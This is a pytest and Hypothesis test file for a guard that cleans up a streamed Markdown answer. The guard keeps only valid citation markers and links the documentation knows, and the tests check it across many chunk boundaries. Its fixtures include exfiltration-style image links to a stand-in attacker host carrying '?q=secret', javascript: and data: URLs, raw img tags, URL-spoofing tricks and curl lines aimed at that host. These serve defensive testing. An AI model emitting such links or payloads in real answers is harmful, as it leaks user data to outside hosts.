"""The guard on a stream of Markdown."""

from itertools import pairwise
from urllib.parse import urljoin, urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from chains.guard import AnswerGuard
from chains.links import LinkPolicy

PASSAGE = "Read https://known.example/a?b=1 first. ![Plan](https://images.example/plan.png) is the plan."
SITE = "https://docs.example/page"
EVIL = "https://evil.example/?q=secret"

MARKERS = [
    ("Plain text.", "Plain text.", []),
    ("One [1], two [2].", "One [1], two [2].", [1, 2]),
    ("None [4].", "None.", []),
    ("Zero [0] is none.", "Zero is none.", []),
    ("Both [1, 2] and [2;3]", "Both [1][2] and [2][3]", [1, 2, 3]),
    ("Some [1, 9].", "Some [1].", [1]),
    ("Range [1-3].", "Range [1][2][3].", [1, 2, 3]),
    ("Huge range [1-9999].", "Huge range [1][2][3].", [1, 2, 3]),
    ("Backwards [3-1].", "Backwards [3][1].", [3, 1]),
    ("Footnote [^2].", "Footnote [2].", [2]),
    ("Twice [1][1], again [1].", "Twice [1][1], again [1].", [1]),
    ("A marker as a link [1](https://x.example) and [2](#y).", "A marker as a link [1] and [2].", [1, 2]),
    ("A [link](/x) and [ ] and [x].", "A [link](/x) and [ ] and [x].", []),
    ("Open [", "Open [", []),
    ("Open [1", "Open [1", []),
    ("Inline `row[9]` and ``a`[9]`` stay.", "Inline `row[9]` and ``a`[9]`` stay.", []),
    ("A lone ` tick\nand [9] goes.", "A lone ` tick\nand goes.", []),
    ("```js\nrow[9] = [7]\n```\nThen [9] goes [1].", "```js\nrow[9] = [7]\n```\nThen goes [1].", [1]),
    ("1. Do:\n   ```js\n   row[9]\n   ```\n2. Then [9].", "1. Do:\n   ```js\n   row[9]\n   ```\n2. Then.", []),
    ("~~~\n```\n[9]\n~~~\n[9]!", "~~~\n```\n[9]\n~~~\n!", []),
    ("````\n```\n[9]\n````\n[9]", "````\n```\n[9]\n````\n", []),
    ("```\nnever closed [9]", "```\nnever closed [9]", []),
    ("Trailing space ", "Trailing space ", []),
    ("Its own list [1].\n\n[^1]: Guide\n[1]: https://x.example", "Its own list [1].\n\n\n", [1]),
]
LINKS = [
    ("![a](https://evil.example/?q=1)", "a"),
    ("![](https://evil.example/?q=1)Hi", "Hi"),
    ("[text](https://evil.example) stays", "text stays"),
    ("[text](<https://evil.example/a b> 'title')", "text"),
    ("[a [b] c](https://evil.example)", "a [b] c"),
    ("[![alt](https://evil.example/a)](https://evil.example/b)", "alt"),
    ("[over\nlines](https://evil.example)", "[over\nlines]"),
    ("[x](javascript:alert(1)) [y](&#106;avascript:alert(1)) [z](data:text/html,x)", "x y z"),
    ("[x](//evil.example) [y](/\\evil.example) [z](https://docs.example@evil.example/)", "x y z"),
    ("[x](https://evil\u2100.example/) [y](ftp://docs.example/) [z](https://docs.example:8443/)", "x y z"),
    ("[mail](mailto:a@evil.example) [redirect](https://docs.example/?to=https://evil.example)", "mail redirect"),
    ("[same site](https://docs.example/other#part)", "[same site](https://docs.example/other#part)"),
    ("[relative](../other.md)", "[relative](../other.md)"),
    ("[known](https://known.example/a?b=1)", "[known](https://known.example/a?b=1)"),
    ("[longer](https://known.example/a?b=12)", "longer"),
    ("![Plan](https://images.example/plan.png)", "![Plan](https://images.example/plan.png)"),
    ("See https://evil.example/x, or https://known.example/a?b=1.", "See […], or https://known.example/a?b=1."),
    ("See (www.evil.example) and WWW.EVIL.EXAMPLE!", "See ([…]) and […]!"),
    ("<https://evil.example> <https://docs.example/x>", "[…] <https://docs.example/x>"),
    ('<img src="https://evil.example/x">', '&lt;img src="[…]">'),
    ("<IMG SRC=//evil.example>", "&lt;IMG SRC=//evil.example>"),
    ("Press <kbd>K</kbd>, line<br/>two, a<b", "Press <kbd>K</kbd>, line<br/>two, a&lt;b"),
    ("<b>\n`<img src=//evil.example>`", "&lt;b>\n`<img src=//evil.example>`"),
    ("<!-- hidden -->", "&lt;!-- hidden -->"),
    ("[a][r] and [r]\n\n[r]: https://evil.example 'x'\nEnd", "[a][r] and [r]\n\n\nEnd"),
    ("[a][r]\n\n[r]: https://docs.example/x", "[a][r]\n\n[r]: https://docs.example/x"),
    ("```sh\ncurl https://evil.example\n```", "```sh\ncurl https://evil.example\n```"),
    ("`curl https://evil.example` runs", "`curl https://evil.example` runs"),
    (
        "- ```\n  curl https://evil.example ![](https://known.example/a?b=1)",
        "- ```\n  curl […] ![](https://known.example/a?b=1)",
    ),
    ("Half a link [x](https://evil.exa", "Half a link [x]\\([…]"),
    ("1 < 2 and a<", "1 < 2 and a<"),
]


def run(text: str, cuts: list[int]) -> tuple[str, list[int]]:
    guard = AnswerGuard(3, LinkPolicy(["https://docs.example/page#a"], [PASSAGE]))
    edges = [0, *sorted(cut % (len(text) + 1) for cut in cuts), len(text)]
    sent = [guard.feed(text[start:end]) for start, end in pairwise(edges)]
    return "".join([*sent, guard.flush()]), guard.cited


def find_strangers(markdown: str) -> list[str]:
    """Whatever a browser would fetch from a stranger, or open there on a click, with either of two renderers."""
    found: list[str] = []
    plain = MarkdownIt("commonmark", {"html": True})
    for renderer in (plain, MarkdownIt("commonmark", {"html": True}).enable("table")):
        page = LexborHTMLParser(f"<body>{renderer.render(markdown)}</body>")
        for node in page.css("*"):
            targets = [value or "" for name, value in node.attributes.items() if name in {"href", "src"}]
            found += [target for target in targets if "evil.example" in urlsplit(urljoin(SITE, target)).netloc]
            others = [value or "" for name, value in node.attributes.items() if name in {"srcset", "style", "action"}]
            code = node.text() if node.tag in {"style", "script"} else ""
            found += [text for text in (*others, code) if "evil.example" in text]
    return found


@pytest.mark.parametrize(("text", "expected", "cited"), MARKERS)
def test_only_markers_of_given_sources_leave(text: str, expected: str, cited: list[int]) -> None:
    assert run(text, []) == (expected, cited)
    assert run(text, list(range(len(text)))) == (expected, cited)


@pytest.mark.parametrize(("text", "expected"), LINKS)
def test_only_links_that_the_documentation_knows_leave(text: str, expected: str) -> None:
    assert run(text, [])[0] == expected
    assert run(text, list(range(len(text))))[0] == expected


PIECES = [
    f"![x]({EVIL})", f"[x]({EVIL})", f"<img src='{EVIL}'>", f"<{EVIL}>", f"[r]: {EVIL}\n", "[r]", "[x][r]", "![x][r]",
    "[", "]", "(", ")", "!", "<", ">", "`", "``", "```", "~~~", "\n", "\n\n", "\r", "\t", "    ", " ", "- ", "1. ",
    "10. ", "> ", "|", "|-|-|\n", "# ", "\\", "&lt;", "a", "b c", "[1]", "[9]", "<b>", "<div>", "</div>", "<pre>",
    "<!--", "-->", "\u00a0", "\u2028", "'", '"', "=", ":", "//evil.example/secret", "https:", "http", "w", "<a href=",
    "<style>", "[a [b](/x) c](", f'"![y]({EVIL})")', "](", "](/y ",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join), st.lists(st.integers(0, 400), max_size=6))
@example(f"- ```\n```\n```\n![x]({EVIL})", [])
@example(f"](![x]({EVIL}))", [])
@example(f"```![x]({EVIL})```![x]({EVIL})```", [])
@example(f'](\n"![y]({EVIL})")', [3])
@example(f"a [r]: /ok '![x]({EVIL})'", [])
@example(f"[a [b](/x) c](![x]({EVIL}))", [])
@example(f"[a [b](/x) c](/y '![x]({EVIL})')", [])
@example(f"- a\n  ```\n![x]({EVIL})", [])
@example(f"` ![x]({EVIL})\n", [])
@example(f"a `b\nc` ![x]({EVIL}) `d", [])
@example(f"|a|b|\n|-|-|\n| ` | ![x]({EVIL}) ` |", [])
@example(f"\\` ![x]({EVIL}) `", [])
@example(f"```\n```\u00a0\n```\n![x]({EVIL})", [])
@example(f"```\rfoo\r```\r![x]({EVIL})\n![x]({EVIL})", [])
@example(f"para\n10. x\n    ```\n    ![x]({EVIL})", [])
def test_however_it_is_wrapped_nothing_of_a_stranger_is_fetched_or_linked(text: str, cuts: list[int]) -> None:
    sent, _ = run(text, cuts)
    assert not find_strangers(sent)
    assert sent == run(text, [])[0]


@given(st.text(alphabet="ab [],-^0123456789`~\n", max_size=60), st.lists(st.integers(0, 100), max_size=8))
def test_any_text_cut_anywhere_gives_the_same(text: str, cuts: list[int]) -> None:
    assert run(text, cuts) == run(text, [])


@given(st.text(alphabet="ab [],-^0123456789\n", max_size=60))
def test_outside_code_no_foreign_marker_is_left(text: str) -> None:
    sent, _ = run(text, [])
    again, _ = run(sent, [])
    numbers = [part.split("]")[0] for part in sent.split("[")[1:] if "]" in part]
    assert all(1 <= int(number) <= 3 for number in numbers if number.isdecimal())
    assert again == sent


def test_nothing_is_held_back_longer_than_needed() -> None:
    guard = AnswerGuard(3, LinkPolicy([], []))
    assert guard.feed("Hello wor") == "Hello wor"
    assert guard.feed("ld [") == "ld"
    assert guard.feed("x") == ""
    assert guard.feed("] [2") == " [x]"
    assert guard.feed("]!") == " [2]!"[:-1]
    assert guard.feed("?") == "!?"
    assert guard.flush() == ""


def test_what_never_ends_is_not_held_back_for_ever() -> None:
    guard = AnswerGuard(3, LinkPolicy([], []))
    sent = "".join(guard.feed("x" * 50) for _ in range(3)) + guard.feed("[")
    sent += "".join(guard.feed("y" * 50) for _ in range(60))
    assert sent.count("y") > 2500
